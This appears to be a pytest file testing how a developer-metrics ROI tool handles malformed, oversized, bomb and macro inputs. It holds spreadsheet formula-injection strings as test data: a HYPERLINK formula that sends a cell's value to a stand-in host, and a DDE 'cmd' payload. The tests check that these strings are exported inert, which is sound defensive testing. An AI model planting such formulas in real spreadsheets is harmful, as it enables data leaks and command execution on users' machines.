"""The bad-input corpus (tests/bad_inputs/): a specific, actionable message, or the right handling, per file.

Errors: through the command line (exit 2, exactly one ``error:`` line naming the file and the
problem, nothing on stdout, no traceback) and through the library (the error's file, row,
column or field).  Quirks that are not errors (mixed time zones, a PR twice across pages,
Latin-1 and UTF-16 text, another delimiter, a period without developers, injection strings)
are read correctly, and what was left out is counted.  Large and binary members (bombs,
macros, a file over the limit) are made at test time by ``tests/bad_inputs/generate.py``.
"""

from __future__ import annotations

import io
import json
import subprocess
import sys
from datetime import date
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from roi.cli import main
from roi.errors import DataError, InputFormatError, ScenarioError, SchemaVersionError
from roi.ingest import read_exports
from roi.metrics import measure
from roi.models import load_scenario
from tests.bad_inputs import generate
from tests.conftest import ROOT, SCENARIOS

CORPUS = ROOT / "tests" / "bad_inputs"
ADOPTION = "2025-02-01"


@pytest.fixture(scope="module")
def generated(tmp_path_factory) -> dict[str, Path]:
    paths = generate.write_corpus(tmp_path_factory.mktemp("bad_inputs"))
    deep = paths["over_limit.csv"].parent / "scenario_deep_nesting.json"
    deep.write_text("[" * 100_000)
    paths["scenario_deep_nesting.json"] = deep
    return paths


def _path(name: str, generated: dict[str, Path]) -> Path:
    return generated[name] if name in generated else CORPUS / name


def _cli(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def _one_error_line(code: int, out: str, err: str, path: Path) -> str:
    assert code == 2, err
    assert out == ""
    lines = err.splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: "), err
    assert "Traceback" not in err
    assert str(path) in lines[0], lines[0]
    return lines[0]


# --- export files: CLI `metrics` ---------------------------------------------------------------

EXPORT_ERRORS = [
    ("empty.csv", ["is empty", "export it again"]),
    ("header_only.csv", ["no dated events", "0 data row(s)", "add such an export"]),
    ("truncated.json", ["ends before its JSON is complete", "line", "cut short", "export it again"]),
    ("truncated_first_record.json", ["ends before its JSON is complete", "line 7", "cut short"]),
    ("broken_json.json", ["is not valid JSON", "line 3", "a value missing"]),
    (
        "wrong_api_repos.json",
        ["not an export format this tool recognises", "full_name", "expected GitHub pulls"],
    ),
    ("wrong_api_error.json", ["error response from the API", "'Bad credentials'", "check the token"]),
    ("delimiter_mixed.csv", ["column 'time_created'", "is empty in all 2 rows"]),
    ("github_pulls_wrong_key.json", ["column 'created_at'", "the file has no 'created_at' at all"]),
    ("fourkeys_deployments_bad_date.csv", ["row 3", "'2025-13-45 10:00 UTC' is not a date-time"]),
    ("not_text.csv", ["is a PDF", "load the export itself"]),
    (
        "future_dates.json",
        ["column 'created_at'", "PR acme/api#21", "2099-03-10", "in the future", "check the date format"],
    ),
    (
        "mistyped_year.csv",
        ["row 3", "column 'time_created'", "'0025-03-05 10:00:00 UTC' is not a plausible date"],
    ),
    ("negative_additions.json", ["column 'additions'", "PR acme/api#31", "-400 additions", "never negative"]),
    (
        "no_developers_after_adoption.json",
        [
            "adoption date 2025-02-01",  # the option, named in the message, not as a field of the file
            "outside the data",
            "2025-01-07 to 2025-01-14",
            "choose a date with data on both sides",
        ],
    ),
    (
        "only_bots.json",
        [
            "no merged pull request by a person",
            "2 bot author",
            "AI coding agent",
            "export a period with merged PRs",
        ],
    ),
    ("entity_bomb.xlsx", ["xl/sharedStrings.xml", "DOCTYPE or XML entities", "refused without expanding it"]),
    ("zip_bomb.xlsx", ["xl/worksheets/sheet1.xml", "zip bomb", "refused without opening it"]),
    ("zip_bomb_declared.xlsx", ["10,240 MB", "zip bomb"]),
    ("macros.xlsm", ["contains macros (VBA)", "Excel Workbook (.xlsx)"]),
    ("password_protected.xlsx", ["password-protected", "remove any password"]),
    ("gzip_bomb.json.gz", ["gzip bomb", "Download the export again"]),
    ("over_limit.csv", ["209,715,201 bytes", "limit of 209,715,200 bytes (200 MB)", "shorter date range"]),
]


@pytest.mark.parametrize("name, words", EXPORT_ERRORS, ids=[name for name, _ in EXPORT_ERRORS])
def test_export_error_on_the_command_line(name, words, generated, capsys):
    path = _path(name, generated)
    line = _one_error_line(*_cli(capsys, "metrics", str(path), "--adoption-date", ADOPTION), path)
    for word in words:
        assert word in line, line


SCENARIO_ERRORS = [
    (
        "scenario_unknown_key.json",
        ScenarioError,
        "review.reviewer_count",
        ["unknown key", "check its spelling"],
    ),
    ("scenario_wrong_type.json", ScenarioError, "team.developers", ["must be a number", "'fifty'"]),
    ("scenario_nan.json", ScenarioError, "review.loc_per_hour",
     ["NaN is not a number JSON allows", "give a finite value"]),
    ("scenario_infinity.json", ScenarioError, "costs.one_off_cost", ["Infinity is not a number JSON allows"]),
    (
        "scenario_1e308.json",
        ScenarioError,
        "team.loaded_cost_per_hour",
        ["1e+308 is not a usable number", "below 1e+12"],
    ),
    ("scenario_huge_integer.json", ScenarioError, "costs.one_off_cost", ["whole number over 1e+12"]),
    ("scenario_negative_developers.json", ScenarioError, "team.developers", ["must be more than 0", "got -50"]),
    (
        "scenario_future_version.json",
        SchemaVersionError,
        None,
        ["schema_version 2", "newer version", "upgrade the tool"],
    ),
    (
        "scenario_range_outside_field.json",
        ScenarioError,
        None,
        ["uncertainty range 'review.loc_per_hour'", "from -100 to 800", "narrow the range"],
    ),
    ("scenario_deep_nesting.json", ScenarioError, None, ["nested too deeply"]),
]


@pytest.mark.parametrize("name, kind, field, words", SCENARIO_ERRORS, ids=[s[0] for s in SCENARIO_ERRORS])
def test_scenario_error_on_the_command_line_and_in_the_library(name, kind, field, words, generated, capsys):
    path = _path(name, generated)
    line = _one_error_line(*_cli(capsys, "compute", str(path)), path)
    for word in words:
        assert word in line, line
    if field:
        assert f"field '{field}'" in line
    with pytest.raises(kind) as info:
        load_scenario(path)
    assert info.value.file == str(path) and info.value.field == field


def test_the_same_files_through_a_real_process_print_no_traceback(generated):
    # The in-process runs above cannot see what the interpreter itself prints on a crash.
    for name in ("entity_bomb.xlsx", "truncated.json", "scenario_nan.json"):
        path = _path(name, generated)
        command = "compute" if name.startswith("scenario") else "metrics"
        extra = [] if command == "compute" else ["--adoption-date", ADOPTION]
        done = subprocess.run(
            [sys.executable, "-m", "roi", command, str(path), *extra],
            capture_output=True,
            text=True,
            cwd=ROOT,
        )
        assert done.returncode == 2 and done.stdout == ""
        assert done.stderr.count("\n") == 1 and done.stderr.startswith(f"error: {path}")


def test_scenario_command_writes_nothing_on_bad_input(tmp_path, capsys):
    out = tmp_path / "new.json"
    code, _, err = _cli(
        capsys, "scenario", str(CORPUS / "truncated.json"), "--adoption-date", ADOPTION, "--out", str(out)
    )
    assert code == 2 and err.startswith("error: ") and not out.exists()
    assert list(tmp_path.iterdir()) == []


# --- the same errors from the library, located -----------------------------------------------


def test_library_errors_carry_file_row_and_column():
    with pytest.raises(InputFormatError) as info:
        read_exports([CORPUS / "delimiter_mixed.csv"])  # every row: no row to name
    assert (info.value.row, info.value.column) == (None, "time_created")
    with pytest.raises(InputFormatError) as info:
        read_exports([("pulls.json", (CORPUS / "negative_additions.json").read_bytes())])
    assert (info.value.file, info.value.column) == ("pulls.json", "additions")
    with pytest.raises(InputFormatError) as info:
        read_exports([("pulls.json", (CORPUS / "future_dates.json").read_bytes())])
    assert (info.value.file, info.value.column) == ("pulls.json", "created_at")
    with pytest.raises(DataError) as info:
        measure(read_exports([CORPUS / "no_developers_after_adoption.json"]), date(2025, 2, 1))
    assert info.value.field == "adoption_date"


def _read_error(name: str, data: bytes) -> InputFormatError:
    with pytest.raises(InputFormatError) as info:
        read_exports([(name, data)])
    return info.value


def test_a_field_missing_from_every_record_is_said_to_be_missing_from_the_file():
    # created_at renamed opened_at in every record: not row 1's mistake, and no row to fix.
    error = _read_error("pulls.json", (CORPUS / "github_pulls_wrong_key.json").read_bytes())
    assert (error.row, error.column) == (None, "created_at")
    assert error.describe() == (
        "pulls.json, column 'created_at': the file has no 'created_at' at all (missing or empty in all 5 rows), "
        "yet every row needs this date: export the file again with that field, under that name")
    # Missing from some records only: the first of them is named, as before.
    records = json.loads((CORPUS / "github_pulls_wrong_key.json").read_text())
    for record in records[:3]:
        record["created_at"] = record.pop("opened_at")
    error = _read_error("pulls.json", json.dumps(records).encode())
    assert error.describe() == "pulls.json, record 4, column 'created_at': is empty; every row needs this date"


def test_a_json_record_is_named_record_n_and_a_csv_row_row_n():
    # The same Four Keys table, the same reader: a JSON file has records (its second is record 2), a CSV rows
    # under a header (its second record is row 3).
    import gzip

    records = [{"source": "github", "deploy_id": "d1", "time_created": "2025-03-12 22:00:00 UTC"},
               {"source": "github", "deploy_id": "d2", "time_created": "2025-13-45 10:00 UTC"}]
    said = ", column 'time_created': '2025-13-45 10:00 UTC' is not a date-time; expected ISO 8601 such as " \
           "2025-03-12T15:04:00Z"
    ndjson = "\n".join(json.dumps(r) for r in records).encode()
    for name, data in (("deploys.json", json.dumps(records).encode()), ("deploys.ndjson", ndjson),
                       ("deploys.json.gz", gzip.compress(json.dumps(records, indent=2).encode()))):
        error = _read_error(name, data)
        assert error.describe() == str(error) == f"{name}, record 2{said}"
    text = "source,deploy_id,time_created\n" + "".join(f"{r['source']},{r['deploy_id']},{r['time_created']}\n"
                                                        for r in records)
    assert _read_error("deploys.csv", text.encode()).describe() == f"deploys.csv, row 3{said}"


def test_a_csv_column_empty_in_every_row_is_said_to_be_empty_throughout():
    text = "source,deploy_id,time_created\ngithub,d1,\ngithub,d2,  \n"
    assert _read_error("deployments.csv", text.encode()).describe() == (
        "deployments.csv, column 'time_created': is empty in all 2 rows, yet every row needs this date: export the "
        "file again with the column filled in")
    text = "source,deploy_id,time_created\ngithub,d1,2025-03-12 22:00:00 UTC\ngithub,d2,\n"
    assert _read_error("deployments.csv", text.encode()).describe() == (
        "deployments.csv, row 3, column 'time_created': is empty; every row needs this date")


def test_a_bad_date_is_quoted_as_the_file_has_it():
    # Not as cleaned for the parser ("2025-13-45 10:00Z"): the user searches the file for what is quoted.
    error = _read_error("deployments.csv", (CORPUS / "fourkeys_deployments_bad_date.csv").read_bytes())
    assert error.describe() == ("deployments.csv, row 3, column 'time_created': '2025-13-45 10:00 UTC' is not a "
                                "date-time; expected ISO 8601 such as 2025-03-12T15:04:00Z")


def test_uploaded_bytes_get_the_same_checks_as_paths(generated):
    # The app passes (name, bytes): the size, bomb and macro checks must not depend on a path.
    for name in ("entity_bomb.xlsx", "macros.xlsm", "gzip_bomb.json.gz"):
        with pytest.raises(InputFormatError) as info:
            read_exports([(name, generated[name].read_bytes())])
        assert info.value.file == name


def test_future_dates_allow_a_day_of_clock_and_zone_slack():
    from roi.ingest import _refuse_impossible

    dataset = read_exports([CORPUS / "mixed_timezones.json"])
    _refuse_impossible(
        dataset, now=pd.Timestamp("2025-03-10T00:00:00Z")
    )  # the last event, 13:00Z, is within a day
    with pytest.raises(
        InputFormatError, match="PR acme/api#5 has merged_at 2025-03-10 13:00 UTC, in the future"
    ):
        _refuse_impossible(dataset, now=pd.Timestamp("2025-03-09T12:00:00Z"))


# --- quirks that are not errors ---------------------------------------------------------------


def test_mixed_time_zones_are_converted_to_utc(capsys):
    dataset = read_exports([CORPUS / "mixed_timezones.json"])
    prs = dataset.pull_requests.set_index("number")
    # Z, +02:00, -06:00 and " UTC" all name 09:00 UTC; +01:00 and +05:30 name 09:00 UTC in March.
    assert set(prs.loc[[1, 2, 3, 4], "created_at"]) == {pd.Timestamp("2025-01-06T09:00:00Z")}
    assert set(prs.loc[[1, 2, 3, 4], "merged_at"]) == {pd.Timestamp("2025-01-06T17:00:00Z")}
    assert set(prs.loc[[5, 6, 7, 8], "created_at"]) == {pd.Timestamp("2025-03-10T09:00:00Z")}
    code, out, _ = _cli(capsys, "metrics", str(CORPUS / "mixed_timezones.json"), "--adoption-date", ADOPTION)
    metrics = json.loads(out)
    assert code == 0
    assert (metrics["baseline"]["cycle_hours_median"], metrics["post"]["cycle_hours_median"]) == (8.0, 4.0)


def test_the_same_pr_on_two_pages_is_counted_once(capsys):
    pages = [CORPUS / "duplicate_pr_page1.json", CORPUS / "duplicate_pr_page2.json"]
    dataset = read_exports(pages)
    assert sorted(dataset.pull_requests["number"]) == [10, 11, 12]
    skipped = [dict(source.skipped) for source in dataset.sources]
    assert sum(s.get("duplicate of a PR in another page or file", 0) for s in skipped) == 1
    code, out, _ = _cli(capsys, "metrics", *map(str, pages), "--adoption-date", ADOPTION)
    metrics = json.loads(out)
    assert code == 0 and metrics["baseline"]["prs_merged"] == 2 and metrics["post"]["prs_merged"] == 1
    assert (
        sum(s["skipped"].get("duplicate of a PR in another page or file", 0) for s in metrics["sources"]) == 1
    )


@pytest.mark.parametrize(
    "name, encoding, note",
    [
        ("jira_latin1.csv", "cp1252", "Windows-1252"),
        ("jira_utf16_bom.csv", "utf-16", None),
    ],
)
def test_latin1_and_utf16_text_is_read_exactly(name, encoding, note):
    dataset = read_exports([CORPUS / name])
    items = dataset.work_items.set_index("key")
    assert list(items.index) == ["API-1", "API-2"]
    assert list(items["assignee"]) == ["José Núñez", "Jürgen Groß"]
    assert list(items["kind"]) == ["bug", "story"]
    notes = " ".join(dataset.sources[0].notes)
    assert (note in notes) if note else "UTF-8" not in notes


def test_a_semicolon_delimiter_is_recognised():
    dataset = read_exports([CORPUS / "delimiter_semicolon.csv"])
    assert list(dataset.deployments["deploy_id"]) == ["github:d1", "github:d2"]
    assert list(dataset.deployments["deployed_at"]) == [
        pd.Timestamp("2025-02-10T09:00:00Z"),
        pd.Timestamp("2025-03-05T10:00:00Z"),
    ]


def test_a_period_without_developers_is_null_with_a_reason():
    deployments = (
        "deploys.csv",
        b"source,deploy_id,time_created,main_commit,changes\n"
        b"github,d1,2025-01-10 09:00:00 UTC,c1,\ngithub,d2,2025-03-05 10:00:00 UTC,c2,\n",
    )
    dataset = read_exports([CORPUS / "no_developers_after_adoption.json", deployments])
    metrics = measure(dataset, date(2025, 2, 1)).model_dump()
    assert metrics["post"]["developers"] == 0
    assert metrics["post"]["prs_per_dev_week"] is None and metrics["post"]["pr_size_loc"] is None
    assert metrics["baseline"]["prs_per_dev_week"] is not None
    assert (
        "the post period has no merged PRs by people: its per-developer PR metrics are null"
        in metrics["notes"]
    )


def test_only_bot_prs_is_a_data_error_with_the_counts():
    with pytest.raises(DataError) as info:
        measure(read_exports([CORPUS / "only_bots.json"]), date(2025, 2, 1))
    assert info.value.file == str(CORPUS / "only_bots.json")


def test_injection_strings_are_read_verbatim_and_exported_inert(capsys):
    from roi.engine import compute
    from roi.export import build_workbook
    from roi.export.data_sheets import tables_of

    files = [CORPUS / "formula_injection.json", CORPUS / "jira_formula_injection.csv"]
    dataset = read_exports(files)
    assert '=HYPERLINK("http://example.invalid/?x="&A1,"click")' in set(dataset.work_items["assignee"])
    assert "=cmd|' /C calc'!A0" in set(dataset.pull_requests["author"])
    assert "@SUM(1)" in " ".join(dataset.pull_requests["labels"])
    code, out, err = _cli(capsys, "metrics", *map(str, files), "--adoption-date", ADOPTION)
    assert code == 0, err
    scenario = load_scenario(SCENARIOS / "worked_example.json")
    book = load_workbook(io.BytesIO(build_workbook(scenario, compute(scenario), tables=tables_of(dataset))))
    texts = []
    for ws in book.worksheets:
        if not ws.title.startswith("Data"):
            continue
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} = {cell.value!r}"
                if isinstance(cell.value, str) and cell.value.startswith(("=", "+", "-", "@")):
                    assert cell.quotePrefix
                    texts.append(cell.value)
    assert "=cmd|' /C calc'!A0" in texts and "@SUM(1)" in texts


def test_every_corpus_file_has_a_test():
    tested = (
        {name for name, _ in EXPORT_ERRORS}
        | {s[0] for s in SCENARIO_ERRORS}
        | {
            "mixed_timezones.json",
            "duplicate_pr_page1.json",
            "duplicate_pr_page2.json",
            "jira_latin1.csv",
            "jira_utf16_bom.csv",
            "delimiter_semicolon.csv",
            "formula_injection.json",
            "jira_formula_injection.csv",
        }
    )
    committed = {p.name for p in CORPUS.iterdir() if p.is_file() and p.suffix in (".json", ".csv")}
    assert committed <= tested, committed - tested


def test_an_oversized_scenario_file_is_refused_before_it_is_read(tmp_path, capsys):
    big = tmp_path / "scenario_huge_file.json"
    with big.open("wb") as handle:  # sparse: no disk used
        handle.truncate(5 * 1024 * 1024 + 1)
    line = _one_error_line(*_cli(capsys, "compute", str(big)), big)
    assert "is 5,242,881 bytes" in line and "a scenario file is a few kilobytes" in line  # a file's own size
    with pytest.raises(ScenarioError, match="limit 5,242,880"):
        from roi.models import parse_scenario

        parse_scenario(b" " * (5 * 1024 * 1024 + 1), source="upload.json")


def test_column_mapped_numbers_must_be_finite_whole_pr_numbers():
    # Found by fuzzing: "1e310" became infinity and crashed the integer conversion.
    mapping = {
        "table": "pull_requests",
        "number": "PR",
        "author": "Author",
        "created_at": "Opened",
        "merged_at": "Merged",
    }
    head = b"PR,Author,Opened,Merged\n1,jo,2025-02-03 09:00,2025-02-04 09:00\n"
    for bad, words in ((b"1e310", "'1e310' is not a number"), (b"2.5", "2.5 is not a PR number")):
        with pytest.raises(InputFormatError, match=words) as info:
            read_exports([("prs.csv", head + bad + b",kim,2025-02-05 09:00,\n")], {"prs.csv": mapping})
        assert (info.value.row, info.value.column) == (3, "PR")


@pytest.mark.parametrize("literal", ["1e1000", "NaN", "-Infinity", "123456789012345678901234567890"])
def test_json_numbers_out_of_range_are_refused_with_their_line(literal):
    # Python's json reads 1e1000 as infinity and accepts NaN: as a Copilot count it would poison every sum.
    data = f'[\n  {{"day": "2024-10-01",\n   "total_suggestions_count": {literal},\n   "total_acceptances_count": 5}}\n]'
    with pytest.raises(InputFormatError) as error:
        read_exports([("usage.json", data.encode())])
    message = error.value.describe()
    assert "usage.json" in message and literal in message and "line 3" in message
